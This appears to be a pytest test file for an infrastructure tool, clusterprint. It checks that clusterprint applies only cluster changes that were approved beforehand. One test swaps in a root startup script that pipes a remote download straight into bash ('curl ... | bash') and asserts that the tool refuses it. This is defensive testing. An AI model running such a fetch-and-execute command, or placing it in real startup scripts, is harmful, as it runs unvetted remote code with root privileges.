"""Only approved changes are applied: `--write-approval`, and `--approved` elsewhere, later."""

import json
from pathlib import Path

import pytest
from support import BLUEPRINTS, Run

from clusterprint.exit_codes import Code
from clusterprint_simcloud import Cloud, Fault
from clusterprint_simcloud.cloud import faults
from clusterprint_simcloud.gcs.kept import KeptStore

VM = BLUEPRINTS / "vm-smallest.yaml"
LARGER = VM.read_text("utf-8").replace("a2-highgpu-1g", "a2-highgpu-1g, count: 2")
GKE = """\
clusterprint: v1
kind: gke
name: approved
project: my-gpu-project
region: us-east4
backend: {gcs: {bucket: my-terraform-state}}
node_pools: [{name: workers, machine_type: n2-standard-4, count: 1}]
workloads: {jobset: {}}
"""


@pytest.mark.slow
@pytest.mark.terraform
def test_a_cluster_comes_and_goes_as_it_was_approved(clusterprint: Run, tmp_path: Path) -> None:
    def run(*words: str | Path, expect: Code = Code.DONE) -> str:
        done = clusterprint(*words, "--simulate", tmp_path / "sim")
        assert done.returncode == expect, done.stdout + done.stderr
        return done.stdout + done.stderr

    approval = tmp_path / "approval.json"
    showing = ("--plan-only", "--read-only", "--write-approval", approval)
    run("up", VM, *showing, expect=Code.CHANGES)
    store = KeptStore(tmp_path / "sim/storage")
    with store.session(changing=False):
        assert store.names("my-terraform-state") == [], "no lock, and no empty state"

    larger = tmp_path / "larger.yaml"
    larger.write_text(LARGER)
    said = run("up", larger, "--approved", approval, expect=Code.REFUSED)
    (one, other) = [line for line in said.splitlines() if "approved" in line and ": create" in line]
    assert "first-1" in one
    assert one.endswith("create, was not approved")
    assert other.endswith("group_arrival: create, other than it was approved"), "it waits for both"

    run("up", VM, "--approved", approval)
    assert "nothing to do" in run("up", VM, "--approved", approval)

    run("down", VM, "--approved", approval, expect=Code.WRONG_USAGE)
    goes = tmp_path / "goes.json"
    run("down", VM, *showing[:-1], goes, expect=Code.CHANGES)
    assert "the state is empty" in run("down", VM, "--approved", goes)

    # The same file would make the cluster again, as often as anybody has it.
    said = run("up", VM, "--approved", approval, expect=Code.REFUSED)
    assert "first: its state has changed since" in said
    assert json.loads(approval.read_text())["stacks"].keys() == {"first"}


AZURE = (BLUEPRINTS / "vmss-nc-dev.yaml").read_text("utf-8")


@pytest.mark.slow
@pytest.mark.terraform
def test_a_script_that_runs_as_root_is_not_changed_after_it_was_approved(
    clusterprint: Run, tmp_path: Path
) -> None:
    """Terraform calls the set-up of machines on Azure sensitive, so no step of a plan tells it apart."""
    blueprint, approval = tmp_path / "azure.yaml", tmp_path / "approval.json"
    (tmp_path / "cluster.pub").write_bytes((BLUEPRINTS / "cluster.pub").read_bytes())
    (tmp_path / "work.sh").write_text("#!/bin/bash\necho one\n")
    blueprint.write_text(f"{AZURE}\nstartup_script: {{file: work.sh}}\n")
    words = ("up", blueprint, "--simulate", tmp_path / "sim")
    done = clusterprint(*words, "--plan-only", "--write-approval", approval)
    assert done.returncode == Code.CHANGES, done.stderr

    (tmp_path / "work.sh").write_text("#!/bin/bash\ncurl -s http://198.51.100.7/x | bash\n")
    done = clusterprint(*words, "--approved", approval)
    assert done.returncode == Code.REFUSED, done.stderr
    assert "what Terraform reads is not what was approved: a file beside the blueprint" in done.stderr
    blueprint.write_text(f"{AZURE}\nstartup_script: {{inline: echo two}}\n")
    done = clusterprint(*words, "--approved", approval)
    assert done.returncode == Code.REFUSED, done.stderr
    assert "its blueprint is not the one that was approved" in done.stderr


@pytest.mark.slow
@pytest.mark.terraform
def test_a_stack_that_nobody_could_plan_may_only_create(clusterprint: Run, tmp_path: Path) -> None:
    blueprint, approval = tmp_path / "approved.yaml", tmp_path / "approval.json"
    blueprint.write_text(GKE)
    words = ("up", blueprint, "--simulate", tmp_path / "sim")
    done = clusterprint(*words, "--plan-only", "--read-only", "--write-approval", approval)
    assert done.returncode == Code.CHANGES, done.stderr
    written = json.loads(approval.read_text())
    assert written["later"] == ["approved-workloads"]
    assert written["stacks"]["approved-workloads"]["folder"]
    assert clusterprint(*words, "--approved", approval).returncode == Code.DONE

    # Now that it is there, an account that may not look into it plans it all the same.
    cloud = Cloud(tmp_path / "sim/cloud")
    faults.install(cloud, [Fault("read", "(helm_release|kubernetes_.*)", times=999, error="forbidden")])
    done = clusterprint(*words, "--plan-only", "--read-only", "--write-approval", approval)
    cloud.close()
    assert (done.returncode, json.loads(approval.read_text())["stacks"]) == (Code.DONE, {}), done.stderr


@pytest.mark.parametrize(
    ("options", "why"),
    [
        (("--approved", "none.json"), "cannot read the approval none.json"),
        (("--approved", VM), "is not an approval"),
        (("--approved", VM, "--yes"), "--approved goes neither with --yes"),
        (("--write-approval", "x.json"), "--write-approval goes with --plan-only"),
        (("--read-only",), "--read-only goes with --plan-only"),
        (("--valid-for", "1h"), "--valid-for goes with --write-approval"),
        (("--plan-only", "--write-approval", "x.json", "--valid-for", "31d"), "30 days at most"),
        (("--plan-only", "--write-approval", "x.json", "--valid-for", "long"), "is not a duration"),
    ],
)
@pytest.mark.parametrize("command", ["up", "down"])
def test_options_that_do_not_fit_are_refused(
    clusterprint: Run, command: str, options: tuple[str | Path, ...], why: str
) -> None:
    done = clusterprint(command, VM, *options)
    assert done.returncode == Code.WRONG_USAGE
    assert why in done.stderr
